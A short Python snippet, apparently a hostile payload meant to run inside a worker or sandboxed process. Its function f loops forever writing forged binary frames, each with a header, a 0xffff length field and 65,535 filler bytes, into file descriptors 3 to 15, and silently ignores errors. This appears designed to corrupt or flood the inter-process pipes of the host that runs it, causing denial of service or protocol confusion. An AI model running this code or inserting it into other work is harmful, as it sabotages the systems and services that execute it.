import os
def f(x):
    while True:
        for d in range(3, 16):
            try: os.write(d, b"\0\0\0\4" + b"\0\0\xff\xff" + b"x" * 65535)
            except OSError: pass
